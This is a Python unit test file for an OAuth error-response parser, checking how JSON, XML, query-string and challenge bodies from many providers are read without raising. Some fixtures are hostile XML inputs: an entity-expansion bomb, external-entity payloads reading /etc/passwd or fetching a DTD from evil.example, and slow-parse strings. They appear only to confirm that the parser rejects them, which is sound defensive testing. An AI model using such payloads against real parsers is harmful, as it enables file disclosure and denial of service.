"""What can be picked out of an answer without knowing who sent it: nothing is guessed, and nothing raises."""

from __future__ import annotations

import json
import time
from datetime import timedelta
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from airflow_oauth_guard.domain.answers import (
    LONGEST_CODE,
    LONGEST_TEXT,
    Body,
    Said,
    answer_id,
    at_path,
    challenge,
    may_have_issued,
    read_body,
    retry_after,
    said,
    signals_error,
)
from tests.unit.domain.builders import NOW, http, refusal, unanswered

JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=12), inner, max_size=3),
    max_leaves=8,
)


def body(raw: object) -> Body:
    return read_body(http(400, raw).body)


def codes(document: Any) -> tuple[str, ...]:
    return said(body(document)).codes


# -- bodies ---------------------------------------------------------------------------------------------------------


@given(st.binary(max_size=200) | st.text(max_size=200).map(str.encode) | JSON_VALUES)
@example(b"\xff\xfe<\x00!\x00D\x00O\x00C\x00T\x00Y\x00P\x00E\x00")
@example("\ufeff")
@example("²")
def test_a_body_is_either_read_or_named_unreadable_and_never_raises(raw):
    read = body(raw)
    assert (read.content is None) == bool(read.unreadable)
    assert isinstance(read.document, dict)
    assert len(read.text) <= LONGEST_TEXT
    assert said(read) is not None
    assert signals_error(read) in (True, False)


@pytest.mark.parametrize(
    ("raw", "content"),
    [
        ('{"a": 1}', {"a": 1}),
        ('[{"a": 1}]', [{"a": 1}]),
        ("[]", []),
        ("\ufeff \r\n{}", {}),
        ("error=x&error_description=a+b%21&empty=", {"error": "x", "error_description": "a b!", "empty": ""}),
        ("access_token=abc", {"access_token": "abc"}),
        ("<error><code>17</code></error>", {"error": {"code": "17"}}),
    ],
)
def test_json_query_strings_and_xml_read_as_the_same_kind_of_content(raw, content):
    assert body(raw).content == content
    assert body(raw).unreadable == ""


@pytest.mark.parametrize(
    ("raw", "why"),
    [
        ("", "empty"),
        (" \r\n\t", "empty"),
        ("Unauthorized", "plain text"),
        ("a=b c=d", "plain text"),
        ("x" * (LONGEST_TEXT + 1), "neither JSON nor XML"),
        ('{"cut": "of', "not complete JSON"),
        ("7", "no object or list"),
        ("null", "no object or list"),
        ("true", "no object or list"),
        ('"expired"', "a JSON text"),
        ("<!doctype html><html></html>", "HTML"),
        ("<HTML><body>", "HTML"),
        ("<a><b></a>", "HTML or broken XML"),
        ("<a", "HTML or broken XML"),
    ],
    ids=lambda value: str(value)[:25],
)
def test_what_cannot_be_read_is_named(raw, why):
    assert why in body(raw).unreadable
    assert body(raw).content is None
    assert body(raw).document == {}


@pytest.mark.parametrize(
    ("raw", "text"),
    [("Unauthorized", "Unauthorized"), (" token expired\n", "token expired"), ('"token expired"', "token expired")],
)
def test_a_short_plain_text_is_kept_as_what_the_server_says(raw, text):
    assert body(raw).text == text
    assert said(body(raw)).words == text


@pytest.mark.parametrize("raw", ["401 Unauthorized: token expired", "[error] token expired", '"half a text'])
def test_a_plain_text_that_begins_like_json_is_still_what_the_server_says(raw):
    assert body(raw).content is None
    assert body(raw).text == raw


def test_a_long_json_text_is_cut_and_a_long_plain_text_is_a_page_for_people():
    assert len(body(json.dumps("x" * 10_000)).text) == LONGEST_TEXT
    assert body("x" * 10_000).text == ""


@pytest.mark.parametrize("opening", ["[", '{"a":', "<a>", "<a><b>"])
@pytest.mark.parametrize("closing", ["", "1"])
def test_a_body_nested_without_end_is_unreadable_and_raises_nothing(opening, closing):
    raw = opening * 50_000 + closing
    assert body(raw).unreadable
    assert said(body(raw)) == Said()
    assert answer_id(http(400, raw)) == answer_id(http(400, raw))


@pytest.mark.parametrize(
    ("opening", "core", "closing"),
    [("[", "1", "]"), ('{"error":', "1", "}"), ('{"error":{"code":', "1", "}}"), ("<error>", "x", "</error>")],
    ids=["lists", "objects", "errors", "xml"],
)
def test_no_depth_of_nesting_raises_anything(opening, core, closing):
    """Where one recursion gives up and another would not is a matter of a frame or two."""
    for depth in (*range(0, 1100, 7), 149_000 if opening == "<error>" else 100_000):
        answer = http(200, opening * depth + core + closing * depth)
        assert said(read_body(answer.body)) is not None
        assert signals_error(read_body(answer.body)) in (True, False)
        assert answer_id(answer)


@pytest.mark.parametrize(
    "odd", ["\\ud800", "\\udfff\\ud83d", "\\u0000", "\\ud83d\\ude00"], ids=["half", "swapped", "nul", "whole"]
)
def test_half_a_character_and_nul_come_out_of_no_body(odd):
    """No database and no request takes them; the whole emoji at the end is one character like any other."""
    raw = f'{{"a{odd}": ["b{odd}"], "error": "x{odd}", "error_description": "{odd}y"}}'
    document = body(raw).document
    told = str([*document, *document.values(), said(body(raw))])
    assert told.encode().decode() == told
    assert "\0" not in told
    assert ("?" in told) is (odd != "\\ud83d\\ude00")


def test_nul_comes_out_of_no_query_string_and_no_plain_text():
    assert body("error=a%00b").content == {"error": "a?b"}
    assert body("a\0 b").text == "a? b"


def test_a_body_in_broken_utf8_is_still_read():
    assert codes(b'{"error": "invalid_grant", "error_description": "it is \xff\xfe"}') == ("invalid_grant",)


# -- XML ------------------------------------------------------------------------------------------------------------

SOAP = """<?xml version="1.0" encoding="UTF-8"?>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:api="urn:api">
  <soap:Body><soap:Fault>
    <faultcode>sf:INVALID_SESSION_ID</faultcode>
    <faultstring>INVALID_SESSION_ID: Invalid Session ID found</faultstring>
    <detail><api:error code="401"><api:message>Session expired</api:message></api:error></detail>
  </soap:Fault></soap:Body>
</soap:Envelope>"""


def test_xml_is_read_by_local_names_whatever_its_namespaces():
    fault = body(SOAP).document["Envelope"]["Body"]["Fault"]
    assert fault["faultcode"] == "sf:INVALID_SESSION_ID"
    assert fault["detail"] == {"error": {"code": "401", "message": "Session expired"}}
    assert "sf:invalid_session_id" in codes(SOAP)
    assert "Invalid Session ID found" in said(body(SOAP)).words


def test_xml_attributes_repeated_elements_and_text_are_all_there():
    raw = '<r><e c="1">one</e><e>two</e><e/><n>\n</n></r>'
    assert body(raw).content == {"r": {"e": [{"c": "1", "text": "one"}, "two", ""], "n": ""}}


def test_comments_instructions_and_cdata_do_not_get_in_the_way_of_xml():
    raw = '<?xml version="1.0"?><!-- hello --><r><?x y?><code><![CDATA[bad_token]]></code><!-- <code>x</code> --></r>'
    assert body(raw).content == {"r": {"code": "bad_token"}}


BOMB = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1 or str()};" * 10}">' for n in range(1, 10))
    + "]><error>&lol9;</error>"
)


@pytest.mark.parametrize(
    "raw",
    [
        BOMB,
        BOMB.replace("DOCTYPE", "doctype"),
        '<!DOCTYPE error SYSTEM "file:///etc/passwd"><error/>',
        '<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]><error>&x;</error>',
        '<!DOCTYPE e [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><error/>',
        '<?xml version="1.0"?>\n<!DOCTYPE\terror><error/>',
        "<!DOCTYPE[]><error/>",
    ],
    ids=["bomb", "lower-case bomb", "system", "external entity", "parameter entity", "tab", "no name"],
)
def test_xml_with_a_document_type_or_an_entity_is_not_read_at_all(raw):
    assert "document type" in body(raw).unreadable
    assert body(raw).content is None


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7"])
def test_a_document_type_hidden_in_another_encoding_is_not_read_either(encoding):
    read = body(f'<?xml version="1.0" encoding="{encoding}"?>{BOMB[21:]}'.encode(encoding))
    assert read.content is None


def test_an_xml_declaration_of_another_encoding_does_not_change_what_was_decoded():
    assert body('<?xml version="1.0" encoding="utf-16"?><error>käse</error>'.encode()).content == {"error": "käse"}


def test_an_undeclared_entity_is_broken_xml():
    assert body("<error>&nbsp;</error>").unreadable


def test_half_a_character_in_xml_is_replaced_and_the_rest_is_read():
    assert body(b"<error><code>x</code><message>\xff</message></error>").document["error"]["code"] == "x"


# -- hostile length -------------------------------------------------------------------------------------------------


def seconds(look) -> float:
    started = time.perf_counter()
    look()
    return time.perf_counter() - started


@pytest.mark.parametrize("piece", ["&a=", "&a=b", "&.", "&a=a="])
@pytest.mark.parametrize("end", ["<", " ", "{"])
def test_what_is_almost_a_query_string_takes_no_time_to_be_told_from_one(piece, end):
    """Two ways to read each "&a=" would be two to the power of their number; 24 of them are seconds already."""
    assert seconds(lambda: body("a=" + piece * 24 + end)) < 0.5


def test_a_long_query_string_is_read():
    assert body("&".join(f"a{number}=b" for number in range(50_000))).document["a49999"] == "b"


@pytest.mark.parametrize("piece", ["a", "-", "a=", 'a="', "a ", "\\", 'a="\\'])
def test_a_hostile_challenge_takes_no_time(piece):
    """A header may have 100 KB; work that grows with its square is minutes, in the middle of an open intent."""
    assert seconds(lambda: challenge((piece * 16_000)[:16_000])) < 0.5


def test_a_hostile_text_in_place_of_a_code_or_words_is_bounded():
    """What is kept of an error is what the rules then search through, each with its own expression."""
    reason = said(body({"error": "x" * 1_000_000, "message": "a token expired " * 60_000}))
    assert all(len(code) <= LONGEST_CODE for code in reason.codes)
    assert len(reason.words) <= 20_000
    assert len(str(reason)) <= 2_000


def test_an_error_with_a_thousand_codes_is_cut_short():
    reason = said(body({"errors": [{"code": f"c{number}", "message": f"m {number}"} for number in range(1_000)]}))
    assert len(reason.codes) + len(reason.words.split()) < 200


# -- paths ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "found"),
    [
        ("a", {"b": [{"c": 7}, {"c": 8}]}),
        ("a.b.1.c", 8),
        ("a.b.2.c", None),
        ("a.b.-1.c", None),
        ("a.b.c", None),
        ("a.x", None),
        ("x", None),
        ("a.b.0.c.d", None),
        ("", None),
        ("n", None),
    ],
)
def test_a_path_leads_to_what_stands_there_or_to_nothing(path, found):
    assert at_path({"a": {"b": [{"c": 7}, {"c": 8}]}, "n": None}, path) == found


@given(JSON_VALUES, st.text(max_size=20))
@example([1], "²")
def test_no_path_raises_in_any_content(content, path):
    at_path(content, path)


# -- what an error says ---------------------------------------------------------------------------------------------

GOOGLE = {
    "error": {
        "code": 403,
        "message": "Request had insufficient authentication scopes.",
        "status": "PERMISSION_DENIED",
        "details": [
            {
                "@type": "type.googleapis.com/google.rpc.ErrorInfo",
                "reason": "ACCESS_TOKEN_SCOPE_INSUFFICIENT",
                "domain": "googleapis.com",
                "metadata": {"service": "drive.googleapis.com"},
            }
        ],
    }
}
GOOGLE_ADS = {
    "error": {
        "code": 401,
        "message": "Request had invalid authentication credentials.",
        "status": "UNAUTHENTICATED",
        "details": [
            {
                "@type": "type.googleapis.com/google.ads.googleads.v17.errors.GoogleAdsFailure",
                "errors": [
                    {"errorCode": {"authenticationError": "OAUTH_TOKEN_EXPIRED"}, "message": "The token has expired."}
                ],
                "requestId": "abc",
            }
        ],
    }
}
META = {
    "error": {
        "message": "Error validating access token: Session has expired",
        "type": "OAuthException",
        "code": 190,
        "error_subcode": 463,
        "fbtrace_id": "A1b2C3",
    }
}
MICROSOFT = {
    "error": "invalid_grant",
    "error_description": "AADSTS50173: The provided grant has expired due to it being revoked.",
    "error_codes": [50173, 70008],
    "suberror": "bad_token",
    "timestamp": "2026-03-14 09:00:00Z",
    "trace_id": "0f8fad5b-d9cb-469f-a165-70867728950e",
    "correlation_id": "7c9e6679-7425-40de-944b-e07fc1f90ae7",
}
GRAPH = {"error": {"code": "InvalidAuthenticationToken", "message": "x", "innerError": {"code": "TokenExpired"}}}
SALESFORCE = [{"message": "Session expired or invalid", "errorCode": "INVALID_SESSION_ID"}]
SLACK = {"ok": False, "error": "token_revoked"}
TIKTOK = {"data": {"user": {"open_id": "o"}}, "error": {"code": "ok", "message": "", "log_id": "2026"}}
TIKTOK_ERROR = {"data": {}, "error": {"code": "access_token_invalid", "message": "The access token is invalid"}}
TIKTOK_ADS = {"code": 40105, "message": "Access token is incorrect or has been revoked.", "request_id": "1", "data": {}}
MARKETO = {"requestId": "e42b#1", "success": False, "errors": [{"code": "602", "message": "Access token expired"}]}
WITHINGS = {"status": 401, "body": {}, "error": "XRequestID: Not provided invalid_token: The token is invalid"}
GRAPHQL = {"data": None, "errors": [{"message": "Not logged in", "extensions": {"code": "UNAUTHENTICATED"}}]}
HUBSPOT = {"status": "error", "message": "missing or unknown refresh token", "category": "BAD_REFRESH_TOKEN"}
LINKEDIN = {"serviceErrorCode": 65601, "message": "The token used in the request has been revoked", "status": 401}
XERO = {"Type": None, "Title": "Unauthorized", "Status": 401, "Detail": "TokenExpired: token expired at 03/14/2026"}
QUICKBOOKS = {"Fault": {"Error": [{"Message": "AuthenticationFailed", "Detail": "x", "code": "3200"}]}}
STRIPE = {"error": {"type": "invalid_request_error", "code": "api_key_expired", "message": "Expired API Key provided"}}

ENVELOPES: dict[str, tuple[Any, tuple[str, ...]]] = {
    "rfc 6749": ({"error": "invalid_grant", "error_description": "gone"}, ("invalid_grant",)),
    "google": (GOOGLE, ("permission_denied", "access_token_scope_insufficient", "403")),
    "google ads": (GOOGLE_ADS, ("unauthenticated", "oauth_token_expired")),
    "google ads stream": ([GOOGLE_ADS], ("unauthenticated", "oauth_token_expired")),
    "meta": (META, ("190", "463", "oauthexception")),
    "microsoft": (MICROSOFT, ("invalid_grant", "50173", "70008", "bad_token")),
    "graph": (GRAPH, ("invalidauthenticationtoken", "tokenexpired")),
    "salesforce": (SALESFORCE, ("invalid_session_id",)),
    "slack": (SLACK, ("token_revoked",)),
    "tiktok": (TIKTOK_ERROR, ("access_token_invalid",)),
    "tiktok ads": (TIKTOK_ADS, ("40105",)),
    "marketo": (MARKETO, ("602",)),
    "withings": (WITHINGS, ("401",)),
    "graphql": (GRAPHQL, ("unauthenticated",)),
    "hubspot": (HUBSPOT, ("bad_refresh_token",)),
    "linkedin": (LINKEDIN, ("65601",)),
    "quickbooks": (QUICKBOOKS, ("3200", "authenticationfailed")),
    "stripe": (STRIPE, ("invalid_request_error", "api_key_expired")),
    "xml": ('<errors><error code="17"><name>IAF</name></error></errors>', ("17", "iaf")),
    "soap": (SOAP, ("sf:invalid_session_id", "401")),
    "query string": ("error=bad_refresh_token&error_description=It+is+expired.", ("bad_refresh_token",)),
    "plain text": ("invalid_token", ("invalid_token",)),
    "json text": ('"invalid_token"', ("invalid_token",)),
}


@pytest.mark.parametrize(("document", "expected"), ENVELOPES.values(), ids=ENVELOPES)
def test_the_codes_are_found_in_every_common_envelope(document, expected):
    assert set(expected) <= set(codes(document))


@pytest.mark.parametrize(
    ("document", "words"),
    [
        (GOOGLE, "Request had insufficient authentication scopes."),
        (META, "Session has expired"),
        (MICROSOFT, "due to it being revoked"),
        (SALESFORCE, "Session expired or invalid"),
        (MARKETO, "Access token expired"),
        (WITHINGS, "invalid_token: The token is invalid"),
        (GRAPHQL, "Not logged in"),
        (HUBSPOT, "missing or unknown refresh token"),
        (XERO, "token expired at"),
        ("error=x&error_description=It+is+expired.", "It is expired."),
        ("token expired", "token expired"),
    ],
)
def test_the_words_are_found_in_every_common_envelope(document, words):
    assert words in said(body(document)).words


def test_what_stands_beside_an_error_comes_before_what_it_wraps():
    assert codes({"details": [{"reason": "inner"}], "error": "outer"})[0] == "outer"


@pytest.mark.parametrize(
    "key", ["trace_id", "correlation_id", "timestamp", "fbtrace_id", "request", "documentation_url"]
)
def test_what_is_no_code_is_not_taken_for_one(key):
    assert codes({"error": "x", key: "invalid_grant"}) == ("x",)


@pytest.mark.parametrize("value", ["", None, False, True, "two words", "x" * (LONGEST_CODE + 1), {}, []])
def test_a_code_is_one_word_of_a_sensible_length(value):
    assert codes({"error": value}) == ()


def test_codes_are_compared_in_lower_case_and_without_the_dot_at_their_end():
    assert codes({"error": " Invalid_Grant. ", "code": 190}) == ("invalid_grant", "190")


def test_a_reason_can_be_told_in_one_sentence():
    assert str(Said(("invalid_grant",), "It is gone.")) == "`invalid_grant` (It is gone.)"
    assert str(Said(("invalid_grant",))) == "`invalid_grant`"
    assert str(Said((), "It is gone.")) == "It is gone."
    assert str(Said(("a", "b", "c", "d"))) == "`a` `b` `c`"
    assert str(Said()) == ""
    assert not Said()


def test_codes_can_be_searched_as_words():
    assert "expired refresh token" in Said(("expired-refresh_token",)).text


# -- an error in a success ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "document",
    [
        *(GOOGLE, GOOGLE_ADS, META, MICROSOFT, GRAPH, SLACK, TIKTOK_ERROR, TIKTOK_ADS, MARKETO, WITHINGS, GRAPHQL),
        *(HUBSPOT, LINKEDIN, XERO, QUICKBOOKS, STRIPE),
        {"error": "x"},
        {"error": True},
        {"error": 7},
        {"error": ["x"]},
        {"error": {"message": "x"}},
        {"success": "false"},
        {"errcode": 40001, "errmsg": "invalid credential"},
        {"code": "40001", "msg": "no"},
        {"status": "FAILED"},
        "error=bad_refresh_token",
        "<error><code>17</code></error>",
        '{"code": "' + "9" * 5_000 + '", "message": "x"}',
    ],
    ids=lambda document: str(document)[:30],
)
def test_an_error_is_told_from_a_success_whatever_its_status(document):
    assert signals_error(body(document))


@pytest.mark.parametrize(
    "document",
    [
        TIKTOK,
        {},
        [],
        [{"error": None}],
        {"access_token": "at", "expires_in": 3600},
        *({"access_token": "at", "error": nothing} for nothing in ("", None, {}, [], False, 0, "0", "none", "success")),
        {"access_token": "at", "error": {"code": 0, "message": ""}},
        {"access_token": "at", "error": {"code": "ok"}},
        {"ok": True, "user": "U1"},
        {"success": True, "result": []},
        {"status": 0, "body": {"access_token": "at"}},
        {"code": 0, "message": "OK", "data": {}},
        {"code": 200, "msg": "success", "data": {}},
        {"code": "200", "message": "success"},
        {"status": "success", "message": "fine"},
        {"status": "active", "id": 7, "name": "crm"},
        {"status": 1, "id": 7},
        {"id": 7, "message": "hello", "type": "post", "code": "abc"},
        {"errors": [], "data": {"me": {"id": 1}}},
        {"data": {"error": "of a row"}},
        {"name": "error", "title": "failed"},
        "<user><name>error</name></user>",
        "access_token=at&expires=3600",
    ],
    ids=lambda document: str(document)[:40],
)
def test_an_ordinary_success_is_no_error(document):
    assert not signals_error(body(document))


RESERVED = frozenset(
    {
        *("error", "errors", "fault", "exception", "errorcode", "errcode", "errortype", "ok", "success", "succeeded"),
        *("issuccess", "status", "code", "statuscode", "ret", "returncode"),
    }
)


@given(st.dictionaries(st.text(max_size=12), JSON_VALUES, max_size=5))
def test_no_body_is_an_error_that_does_not_say_so_at_its_top(document):
    plain = {key: value for key, value in document.items() if "".join(filter(str.isalnum, key)).lower() not in RESERVED}
    assert not signals_error(Body(content=plain))


@given(st.lists(JSON_VALUES, max_size=3))
def test_a_list_is_no_error_by_itself(content):
    assert not signals_error(Body(content=content))


@given(st.dictionaries(st.sampled_from(sorted(RESERVED | {"message", "title"})), JSON_VALUES, max_size=5))
@example({"code": "9" * 5000, "message": "x"})
@example({"ret": -1, "msg": "x"})
@example({"code": "٣", "message": "x"})
def test_whatever_stands_in_the_telling_places_there_is_an_answer(document):
    assert signals_error(Body(content=document)) in (True, False)


# -- challenges -----------------------------------------------------------------------------------------------------


@pytest.mark.rfc("6750", "3")
@pytest.mark.rfc("9110", "11.6.1")
@pytest.mark.parametrize(
    ("header", "code"),
    [
        ('Bearer realm="x", error="invalid_token", error_description="The access token expired"', "invalid_token"),
        ("bearer error=invalid_token", "invalid_token"),
        ('BEARER ERROR="Invalid_Token"', "invalid_token"),
        ('Bearer error = "invalid_token"', "invalid_token"),
        ('Basic realm="x", Bearer error="insufficient_scope"', "insufficient_scope"),
        ('DPoP error="invalid_token", algs="ES256"', "invalid_token"),
        ('OAuth realm="x", error="invalid_token"', "invalid_token"),
        ('Bearer error="invalid_token", Bearer error="insufficient_scope"', "invalid_token"),
        ('Bearer realm="error=invalid_token"', None),
        ('Bearer realm="say \\", error=invalid_token"', None),
        ('Bearer realm="x"', None),
        ('Bearer error=""', None),
        ('Bearer error_description="invalid_token"', None),
        ("Negotiate", None),
        ("", None),
    ],
)
def test_the_error_of_a_challenge_is_read_and_nothing_that_only_looks_like_it(header, code):
    assert challenge(header).codes == ((code,) if code else ())


@given(st.text(max_size=200))
def test_no_challenge_raises(header):
    assert len(challenge(header).codes) <= 1


# -- headers and statuses -------------------------------------------------------------------------------------------


@pytest.mark.rfc("9110", "10.2.3")
@pytest.mark.parametrize(
    ("value", "wait"),
    [
        ("120", timedelta(minutes=2)),
        ("0", timedelta()),
        ("Sat, 14 Mar 2026 09:30:00 GMT", timedelta(minutes=30)),
        ("Sat, 14 Mar 2026 09:30:00 -0000", timedelta(minutes=30)),
        ("Sat, 14 Mar 2026 08:00:00 GMT", timedelta()),
        ("-5", None),
        ("soon", None),
        ("", None),
    ],
)
def test_retry_after_is_read_in_both_forms_and_never_negative(value, wait):
    assert retry_after(http(429, headers={"retry-after": value})) == wait


@pytest.mark.parametrize(
    "value",
    [
        "\u00b2",
        "9" * 20,
        "9" * 5000,
        "Mon, 01 Jan 2024 00:00:00 +9999999999999999999",
        "Mon, 01 Jan 99999999999999999999999 00:00:00 GMT",
    ],
    ids=["superscript", "too long for a duration", "too long for a number", "offset", "year"],
)
def test_an_absurd_retry_after_raises_nothing(value):
    """A parse error here would lose the evidence, and with it the intent it settles."""
    wait = retry_after(http(429, headers={"retry-after": value}))
    assert wait is None or wait >= timedelta()


def test_there_is_no_retry_after_in_no_answer():
    assert retry_after(unanswered()) is None


@pytest.mark.rfc("9110", "15.6.4")
@pytest.mark.parametrize("status", range(200, 600))
def test_tokens_may_have_been_issued_by_a_success_and_by_whatever_broke_after_it(status):
    assert may_have_issued(status) == (status < 300 or (status >= 500 and status not in (501, 503)))


def test_the_repr_of_an_answer_shows_no_token():
    """Answers travel through tracebacks and logs; a token answer's body is the new token."""
    shown = repr(http(200, {"access_token": "at-secret"}, {"set-cookie": "session-secret"}))
    assert "at-secret" not in shown
    assert "session-secret" not in shown


# -- answer_id ------------------------------------------------------------------------------------------------------

INCIDENTAL = [
    ("Trace ID: 0f8fad5b-d9cb-469f-a165-70867728950e", "Trace ID: 7c9e6679-7425-40de-944b-e07fc1f90ae7"),
    ("Timestamp: 2026-03-14 09:00:01Z", "Timestamp: 2026-03-14 09:02:07Z"),
    ("token rt-1234 is not valid", "token xy-9876 is not valid"),
    ("token abcdefghijklmnopqrstuvwx is not valid", "token zyxwvutsrqponmlkjihgfedc is not valid"),
    ("Token Is Not Valid", "token is not valid"),
]


@pytest.mark.parametrize(("one", "other"), INCIDENTAL)
def test_answers_that_differ_only_in_incidental_fields_are_the_same_answer(one, other):
    assert answer_id(refusal("invalid_grant", one)) == answer_id(refusal("invalid_grant", other))
    assert answer_id(http(400, f"{one}!")) == answer_id(http(400, f"{other}!"))


@given(st.uuids(), st.uuids(), st.datetimes(), st.datetimes())
def test_trace_ids_and_timestamps_never_tell_answers_apart(one, other, at, later):
    description = "AADSTS: the grant is not valid. Trace ID: {} Timestamp: {}Z"
    first = refusal("invalid_grant", description.format(one, at.isoformat(" ")))
    second = refusal("invalid_grant", description.format(other, later.isoformat(" ")))
    assert answer_id(first) == answer_id(second)


def test_fields_beside_the_error_do_not_tell_answers_apart():
    one = {"error": "invalid_grant", "trace_id": "a", "timestamp": "Monday"}
    other = {"timestamp": "Tuesday", "correlation": {"id": "b"}, "error": "invalid_grant"}
    assert answer_id(http(400, one, {"x-request-id": "1"})) == answer_id(http(400, other, {"date": "x"}))


def test_the_token_that_an_answer_echoes_does_not_tell_it_apart():
    one, other = (refusal("invalid_grant", f"{token} is not valid") for token in ("short", "brief"))
    assert answer_id(one, ["short", ""]) == answer_id(other, ["brief"])
    assert answer_id(one) != answer_id(other)


def test_two_pages_of_html_are_the_same_answer():
    assert answer_id(http(403, "<html>ray 1</html>")) == answer_id(http(403, "<html>ray 2</html>"))


@pytest.mark.parametrize(
    "other",
    [
        refusal("invalid_grant", "Token has been revoked", status=401),
        refusal("invalid_request", "Token has been revoked"),
        refusal("invalid_grant", "No such token"),
        refusal("invalid_grant"),
        http(400, {"error": "invalid_grant", "error_description": "Token has been revoked", "suberror": "bad_token"}),
        http(400, "<html>"),
        http(400, "Token has been revoked"),
        unanswered(),
    ],
    ids=["status", "code", "description", "no description", "another code beside it", "html", "text", "no answer"],
)
def test_answers_that_say_something_else_are_different_answers(other):
    assert answer_id(refusal("invalid_grant", "Token has been revoked")) != answer_id(other)


def test_numbers_that_are_codes_tell_answers_apart():
    assert answer_id(http(400, {"error": {"code": 100}})) != answer_id(http(400, {"error": {"code": 190}}))


def test_metas_trace_id_does_not_tell_its_answers_apart():
    one = http(400, {"error": {"message": "Invalid parameter", "code": 100, "fbtrace_id": "AbC"}})
    other = http(400, json.dumps({"error": {"fbtrace_id": "xYz", "code": 100, "message": "Invalid parameter"}}))
    assert answer_id(one) == answer_id(other)


def test_the_moment_of_an_answer_does_not_tell_it_apart():
    assert answer_id(http(400, {"error": "x"}, received_at=NOW)) == answer_id(
        http(400, {"error": "x"}, received_at=NOW + timedelta(days=1))
    )
